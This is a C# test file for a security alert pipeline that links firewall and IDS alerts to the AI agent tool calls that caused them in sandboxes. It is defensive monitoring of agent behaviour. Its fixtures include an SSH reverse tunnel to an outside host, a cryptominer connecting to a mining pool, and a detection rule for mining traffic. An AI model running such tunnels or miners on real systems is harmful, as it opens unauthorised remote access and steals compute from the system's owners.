using System.Text;
using AlertPipeline.Core.Detect;
using AlertPipeline.Core.Detect.Correlation;
using AlertPipeline.Core.Enrich;
using AlertPipeline.Core.Enrich.Attribution;
using AlertPipeline.Core.Events;
using AlertPipeline.Core.Ingest;
using AlertPipeline.Core.Pipeline;
using AlertPipeline.Core.Respond;
using Microsoft.Extensions.Time.Testing;

namespace AlertPipeline.Core.Tests.Enrich.Attribution;

/// <summary>
/// The incident's shape in miniature, through the real pipeline: two sandboxes behind one firewall, each agent's tool
/// call starting a shell and its child, their connections, and the firewall's and the IDS's records of them. Every alert
/// names the tool call behind its first event, with the method and confidence the link deserves.
/// </summary>
public sealed class AttributionFlowTests
{
    private static readonly DateTimeOffset T0 = new(2026, 3, 2, 10, 0, 0, TimeSpan.Zero);

    // Sandbox a: an ssh tunnel (call_a1), a miner started through a shell (call_a2), a process that names its call (call_a3).
    // Sandbox b: the same miner, its address leased from sbx-old at 10:00:30; its firewall record's source port is translated.
    private static readonly string[] SandboxTelemetry =
    [
        Tool("sbx-a", "ep-a", "00:00.000", "call_a1", "ssh -fNR 2222:localhost:22 tunnel@203.0.113.9"),
        Process("sbx-a", "ep-a", "00:00.200", 100, "bash", "bash -lc \\\"ssh -fNR 2222:localhost:22 tunnel@203.0.113.9\\\"", 50, "agent-runtime", "agent-runtime --episode ep-a"),
        Process("sbx-a", "ep-a", "00:00.500", 101, "ssh", "ssh -fNR 2222:localhost:22 tunnel@203.0.113.9", 100, "bash", "bash -lc \\\"ssh -fNR 2222:localhost:22 tunnel@203.0.113.9\\\""),
        Connection("sbx-a", "ep-a", "00:00.600", "10.1.0.5", 40001, "203.0.113.9", 22, 101, "ssh"),
        Tool("sbx-a", "ep-a", "01:00.000", "call_a2", "cd /tmp && ./miner -o stratum+tcp://pool.example:3333 &"),
        Process("sbx-a", "ep-a", "01:00.900", 200, "miner", "/tmp/miner -o stratum+tcp://pool.example:3333", 199, "bash", "bash -lc 'cd /tmp && ./miner -o stratum+tcp://pool.example:3333 &'"),
        Connection("sbx-a", "ep-a", "01:01.000", "10.1.0.5", 40002, "198.51.100.7", 3333, 200, "miner"),
        Tool("sbx-b", "ep-b", "01:00.000", "call_b1", "./miner -o stratum+tcp://pool.example:3333"),
        Process("sbx-b", "ep-b", "01:00.300", 900, "miner", "./miner -o stratum+tcp://pool.example:3333", 899, "bash", "bash"),
        Connection("sbx-b", "ep-b", "01:01.400", "10.1.0.6", 50002, "198.51.100.7", 3333, 900, "miner"),
        Tool("sbx-a", "ep-a", "01:59.900", "call_a3", "python3 fetch.py"),
        $$$$"""{"@timestamp":"{{{{At("02:00.000")}}}}","event":{"category":"process","type":"start","dataset":"sandbox.process","module":"sandbox"},"sandbox":{"id":"sbx-a","run_id":"run-1","episode_id":"ep-a"},"tool":{"call_id":"call_a3"},"process":{"pid":300,"name":"python3","command_line":"python3 fetch.py","parent":{"pid":50}}}""",
        Connection("sbx-a", "ep-a", "02:00.400", "10.1.0.5", 40003, "192.0.2.50", 8443, 300, "python3"),
        // Two of a's processes reach one address 100 ms apart: a translated record between them is anyone's.
        Connection("sbx-a", "ep-a", "03:00.000", "10.1.0.5", 40010, "192.0.2.80", 443, 101, "ssh"),
        Connection("sbx-a", "ep-a", "03:00.100", "10.1.0.5", 40011, "192.0.2.80", 443, 200, "miner"),
    ];

    private static readonly string[] NetworkRecords =
    [
        Firewall("00:00.650", "10.1.0.5", 40001, "203.0.113.9", 22, "Allow"),
        Firewall("01:01.050", "10.1.0.5", 40002, "198.51.100.7", 3333, "Deny"),
        // b's record is nearer in time to a's connection (01.000) than to b's own (01.400): only the lease tells them apart.
        Firewall("01:01.100", "10.1.0.6", 61000, "198.51.100.7", 3333, "Deny"),
        $$$$"""{"timestamp":"{{{{At("02:00.420")}}}}","event_type":"alert","src_ip":"10.1.0.5","src_port":40003,"dest_ip":"192.0.2.50","dest_port":8443,"proto":"TCP","alert":{"action":"allowed","signature_id":1,"signature":"test","category":"test","severity":1},"host":"ids-1"}""",
        Firewall("03:00.050", "10.1.0.5", 61001, "192.0.2.80", 443, "Deny"),
    ];

    [Fact]
    public async Task Every_alert_names_the_tool_call_behind_its_first_event()
    {
        var (pipeline, alerts, _) = await PipelineAsync();

        // One batch: the sandboxes' own events explain the firewall records of the same batch.
        await pipeline.ProcessAsync(Messages(), CancellationToken.None);

        var found = await AttributionsAsync(alerts);
        Assert.Equal(AttributionMethods.FiveTuple, found[("fw-ssh", "sbx-a")].Method);
        Assert.Equal(("call_a1", "0.95", "101", "ssh"), Link(found[("fw-ssh", "sbx-a")]));
        Assert.Equal(("call_a2", "0.95", "200", "miner"), Link(found[("fw-pool", "sbx-a")]));
        Assert.Equal(AttributionMethods.FiveTuple, found[("fw-pool", "sbx-a")].Method);

        // Translated source port: destination and time, within b's own connections only.
        Assert.Equal(AttributionMethods.DestinationTime, found[("fw-pool", "sbx-b")].Method);
        Assert.Equal(("call_b1", "0.70", "900", "miner"), Link(found[("fw-pool", "sbx-b")]));
        Assert.Equal("ep-b", found[("fw-pool", "sbx-b")].Evidence[AttributionEvidence.EpisodeId]);

        // The IDS: 5-tuple to python3, whose own start event named its tool call.
        Assert.Equal(AttributionMethods.FiveTuple, found[("ids", "sbx-a")].Method);
        Assert.Equal(("call_a3", "0.95", "300", "python3"), Link(found[("ids", "sbx-a")]));

        // The sandbox's own events: the process they name, the tool call they carry.
        Assert.Equal(AttributionMethods.Process, found[("miner-start", "sbx-a")].Method);
        Assert.Equal(("call_a2", "0.90", "200", "miner"), Link(found[("miner-start", "sbx-a")]));
        Assert.Equal(("call_b1", "0.90", "900", "miner"), Link(found[("miner-start", "sbx-b")]));
        Assert.Equal(AttributionMethods.Telemetry, found[("tool-stratum", "sbx-a")].Method);
        Assert.Equal("call_a2", found[("tool-stratum", "sbx-a")].Evidence[AttributionEvidence.ToolCallId]);
        Assert.Equal("1.00", found[("tool-stratum", "sbx-a")].Evidence[AttributionEvidence.Confidence]);
        Assert.Equal("call_b1", found[("tool-stratum", "sbx-b")].Evidence[AttributionEvidence.ToolCallId]);

        // Two processes equally close: no guess, and the evidence says why.
        var ambiguous = found[("fw-443", "sbx-a")].Evidence;
        Assert.False(ambiguous.ContainsKey(AttributionEvidence.Method));
        Assert.False(ambiguous.ContainsKey(AttributionEvidence.ToolCallId));
        Assert.Contains("equally close", ambiguous[AttributionEvidence.Note], StringComparison.Ordinal);

        // The operator's line: the connection, the delta and the tool call's input and time.
        var ssh = found[("fw-ssh", "sbx-a")].Evidence;
        Assert.Equal("tcp 10.1.0.5:40001 -> 203.0.113.9:22 at 10:00:00.600Z", ssh[AttributionEvidence.Connection]);
        Assert.Equal("50", ssh[AttributionEvidence.TimeDeltaMs]);
        Assert.Equal("ssh -fNR 2222:localhost:22 tunnel@203.0.113.9", ssh[AttributionEvidence.ToolInput]);
        Assert.Equal("2026-03-02T10:00:00.000Z", ssh[AttributionEvidence.ToolTime]);
        Assert.Equal(("bash", "run-1", "ep-a"), (ssh[AttributionEvidence.ToolName], ssh[AttributionEvidence.RunId], ssh[AttributionEvidence.EpisodeId]));
    }

    [Fact]
    public async Task Redelivery_changes_neither_lineage_nor_evidence()
    {
        var (pipeline, alerts, lineage) = await PipelineAsync();
        await pipeline.ProcessAsync(Messages(), CancellationToken.None);
        var first = await AttributionsAsync(alerts);
        var connections = await lineage.FindConnectionsAsync("sbx-a", "192.0.2.80", 443, T0, T0.AddHours(1), CancellationToken.None);

        await pipeline.ProcessAsync(Messages(), CancellationToken.None);

        Assert.Equal(first.ToDictionary(kv => kv.Key, kv => kv.Value.Evidence.OrderBy(e => e.Key).ToList()),
            (await AttributionsAsync(alerts)).ToDictionary(kv => kv.Key, kv => kv.Value.Evidence.OrderBy(e => e.Key).ToList()));
        Assert.Equal(connections, await lineage.FindConnectionsAsync("sbx-a", "192.0.2.80", 443, T0, T0.AddHours(1), CancellationToken.None));
    }

    [Fact]
    public async Task A_firewall_record_processed_before_the_sandboxes_own_events_has_no_link()
    {
        var (pipeline, alerts, _) = await PipelineAsync();

        await pipeline.ProcessAsync([.. Messages().Where(m => m.Stream == "network")], CancellationToken.None);

        var found = await AttributionsAsync(alerts);
        Assert.False(found[("fw-ssh", "sbx-a")].Evidence.ContainsKey(AttributionEvidence.Method));
        Assert.Contains("no connection of the sandbox's own", found[("fw-ssh", "sbx-a")].Evidence[AttributionEvidence.Note], StringComparison.Ordinal);
    }

    [Fact]
    public async Task The_correlation_sweep_purges_lineage_past_its_retention_once_an_hour()
    {
        var time = new FakeTimeProvider(T0.AddMinutes(10));
        var (pipeline, _, lineage) = await PipelineAsync(time);
        await pipeline.ProcessAsync(Messages(), CancellationToken.None);

        await pipeline.SweepCorrelationsAsync(CancellationToken.None);
        Assert.Equal(2, (await lineage.FindConnectionsAsync("sbx-a", "192.0.2.80", 443, T0, T0.AddHours(1), CancellationToken.None)).Count);

        // A day later the sweep deletes it; the next purge waits an hour.
        time.Advance(AttributionOptions.Retention);
        await pipeline.SweepCorrelationsAsync(CancellationToken.None);
        Assert.Empty(await lineage.FindConnectionsAsync("sbx-a", "192.0.2.80", 443, T0, T0.AddHours(1), CancellationToken.None));
        Assert.Null(await lineage.GetToolCallAsync("sbx-a", "call_a1", CancellationToken.None));

        await pipeline.ProcessAsync(Messages(), CancellationToken.None);
        time.Advance(TimeSpan.FromMinutes(59));
        await pipeline.SweepCorrelationsAsync(CancellationToken.None);
        Assert.NotNull(await lineage.GetToolCallAsync("sbx-a", "call_a1", CancellationToken.None));
        time.Advance(TimeSpan.FromMinutes(1));
        await pipeline.SweepCorrelationsAsync(CancellationToken.None);
        Assert.Null(await lineage.GetToolCallAsync("sbx-a", "call_a1", CancellationToken.None));
    }

    [Fact]
    public async Task Alerts_go_on_without_attribution_when_the_lineage_store_fails()
    {
        var (pipeline, alerts, _) = await PipelineAsync(lineage: new UnavailableLineageStore());

        await pipeline.ProcessAsync(Messages(), CancellationToken.None);

        var found = await AttributionsAsync(alerts);
        Assert.Equal(9, found.Count);
        Assert.All(found.Values, a => Assert.Equal("not attributed: the lineage store could not be read", a.Evidence[AttributionEvidence.Note]));
    }

    /// <summary>A lineage store whose storage is down.</summary>
    private sealed class UnavailableLineageStore : ILineageStore
    {
        public Task RecordAsync(LineageBatch batch, CancellationToken cancellationToken) => throw new IOException("storage is down");

        public Task<IReadOnlyList<ConnectionRecord>> FindConnectionsAsync(string sandboxId, string destinationIp, long destinationPort, DateTimeOffset from, DateTimeOffset to, CancellationToken cancellationToken) => throw new IOException("storage is down");

        public Task<IReadOnlyList<ProcessRecord>> FindProcessesAsync(string sandboxId, long pid, CancellationToken cancellationToken) => throw new IOException("storage is down");

        public Task<IReadOnlyList<ToolCallRecord>> FindToolCallsAsync(string sandboxId, DateTimeOffset from, DateTimeOffset to, CancellationToken cancellationToken) => throw new IOException("storage is down");

        public Task<ToolCallRecord?> GetToolCallAsync(string sandboxId, string callId, CancellationToken cancellationToken) => throw new IOException("storage is down");

        public Task<int> PurgeAsync(DateTimeOffset before, CancellationToken cancellationToken) => throw new IOException("storage is down");
    }

    private static (string CallId, string Confidence, string Pid, string Process) Link(Attribution a) => (
        a.Evidence.GetValueOrDefault(AttributionEvidence.ToolCallId, "none"), a.Evidence[AttributionEvidence.Confidence],
        a.Evidence.GetValueOrDefault(AttributionEvidence.ProcessPid, "none"), a.Evidence.GetValueOrDefault(AttributionEvidence.ProcessName, "none"));

    private sealed record Attribution(string? Method, IReadOnlyDictionary<string, string> Evidence);

    private static async Task<Dictionary<(string Rule, string Sandbox), Attribution>> AttributionsAsync(InMemoryAlertStore store)
    {
        var alerts = await store.ListAsync(100, CancellationToken.None);
        return alerts.ToDictionary(
            a => (a.Title, a.SandboxId),
            a => new Attribution(a.Evidence.GetValueOrDefault(AttributionEvidence.Method),
                a.Evidence.Where(e => e.Key.StartsWith("attribution.", StringComparison.Ordinal)).ToDictionary(e => e.Key, e => e.Value)));
    }

    private static async Task<(TelemetryPipeline Pipeline, InMemoryAlertStore Alerts, ILineageStore Lineage)> PipelineAsync(
        TimeProvider? time = null, ILineageStore? lineage = null)
    {
        var rules = new InMemoryRuleStore();
        var n = 0;
        foreach (var (title, logsource, selection) in new[]
        {
            ("fw-ssh", "category: firewall", "DestinationPort: 22"),
            ("fw-pool", "category: firewall", "DestinationPort: 3333"),
            ("fw-443", "category: firewall", "destination.ip: 192.0.2.80"),
            ("ids", "category: network_connection", "observer.product: Suricata"),
            ("miner-start", "category: process_creation", "process.name: miner"),
            ("tool-stratum", "product: sandbox\n  category: tool_call", "tool.input|contains: 'stratum+tcp://'"),
        })
        {
            var id = $"7a1b2c3d-0000-4000-8000-00000000000{n++}";
            await rules.UpsertAsync(new RuleRecord("test", id, title, "high", true, RuleMode.Enforce, $"""
                title: {title}
                id: {id}
                logsource:
                  {logsource}
                detection:
                  selection:
                    {selection}
                  condition: selection
                level: high
                """, DateTimeOffset.UnixEpoch), CancellationToken.None);
        }

        SandboxRecord Sandbox(string id, string ip, DateTimeOffset from, DateTimeOffset? to = null) => new() { Id = id, Addresses = [new SandboxAddress(ip, from, to)] };
        var inventory = new InMemorySandboxInventory([
            Sandbox("sbx-a", "10.1.0.5", T0.AddHours(-1)),
            Sandbox("sbx-old", "10.1.0.6", T0.AddHours(-1), T0.AddSeconds(30)),
            Sandbox("sbx-b", "10.1.0.6", T0.AddSeconds(30)),
        ]);
        var alerts = new InMemoryAlertStore();
        lineage ??= new InMemoryLineageStore();
        var pipeline = new TelemetryPipeline(
            new TelemetryIngestor(), new SandboxSnapshotProvider(inventory, TimeSpan.FromMinutes(1)), new RuleSetProvider(rules, TimeSpan.FromMinutes(1)),
            new AlertResponder(alerts, [], ResponsePolicy.Default), new InMemoryDeadLetterStore(), new PipelineOptions(),
            new CorrelationEngine(new InMemoryCorrelationStateStore()))
        {
            Lineage = lineage,
            Time = time ?? TimeProvider.System,
        };
        return (pipeline, alerts, lineage);
    }

    private static List<TelemetryMessage> Messages() =>
    [
        .. SandboxTelemetry.Select((json, i) => new TelemetryMessage(Encoding.UTF8.GetBytes(json), "sandbox", i, DateTimeOffset.UnixEpoch)),
        .. NetworkRecords.Select((json, i) => new TelemetryMessage(Encoding.UTF8.GetBytes(json), "network", i, DateTimeOffset.UnixEpoch)),
    ];

    private static string At(string minuteSecond) => T0.AddMinutes(int.Parse(minuteSecond[..2], System.Globalization.CultureInfo.InvariantCulture))
        .AddMilliseconds(double.Parse(minuteSecond[3..], System.Globalization.CultureInfo.InvariantCulture) * 1000).UtcDateTime.ToString("yyyy-MM-ddTHH:mm:ss.fffZ", System.Globalization.CultureInfo.InvariantCulture);

    private static string Tool(string sandbox, string episode, string at, string callId, string input) =>
        $$$$"""{"@timestamp":"{{{{At(at)}}}}","event":{"category":"process","type":"info","dataset":"sandbox.tool_call","module":"sandbox"},"sandbox":{"id":"{{{{sandbox}}}}","run_id":"run-1","episode_id":"{{{{episode}}}}"},"tool":{"name":"bash","call_id":"{{{{callId}}}}","input":"{{{{input}}}}"}}""";

    private static string Process(string sandbox, string episode, string at, int pid, string name, string commandLine, int parentPid, string parentName, string parentCommandLine) =>
        $$$$"""{"@timestamp":"{{{{At(at)}}}}","event":{"category":"process","type":"start","dataset":"sandbox.process","module":"sandbox"},"sandbox":{"id":"{{{{sandbox}}}}","run_id":"run-1","episode_id":"{{{{episode}}}}"},"process":{"pid":{{{{pid}}}},"name":"{{{{name}}}}","command_line":"{{{{commandLine}}}}","parent":{"pid":{{{{parentPid}}}},"name":"{{{{parentName}}}}","command_line":"{{{{parentCommandLine}}}}"}}}""";

    private static string Connection(string sandbox, string episode, string at, string sourceIp, int sourcePort, string destinationIp, int destinationPort, int pid, string name) =>
        $$$$"""{"@timestamp":"{{{{At(at)}}}}","event":{"category":"network","type":"connection","dataset":"sandbox.network","module":"sandbox"},"sandbox":{"id":"{{{{sandbox}}}}","run_id":"run-1","episode_id":"{{{{episode}}}}"},"source":{"ip":"{{{{sourceIp}}}}","port":{{{{sourcePort}}}}},"destination":{"ip":"{{{{destinationIp}}}}","port":{{{{destinationPort}}}}},"network":{"transport":"tcp"},"process":{"pid":{{{{pid}}}},"name":"{{{{name}}}}"}}""";

    private static string Firewall(string at, string sourceIp, int sourcePort, string destinationIp, int destinationPort, string action) =>
        $$$$"""{"records":[{"category":"AZFWNetworkRule","time":"{{{{At(at)}}}}","resourceId":"/subscriptions/0/resourceGroups/rg/providers/Microsoft.Network/azureFirewalls/fw-1","operationName":"AzureFirewallNetworkRuleLog","properties":{"Protocol":"TCP","SourceIp":"{{{{sourceIp}}}}","SourcePort":{{{{sourcePort}}}},"DestinationIp":"{{{{destinationIp}}}}","DestinationPort":{{{{destinationPort}}}},"Action":"{{{{action}}}}"}}]}""";
}
